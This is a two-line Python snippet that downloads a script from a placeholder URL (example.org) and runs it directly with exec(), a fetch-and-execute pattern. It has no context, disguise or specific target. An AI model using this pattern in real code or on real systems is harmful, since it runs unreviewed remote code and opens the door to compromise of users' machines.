import requests
exec(requests.get("https://example.org/x.py").text)
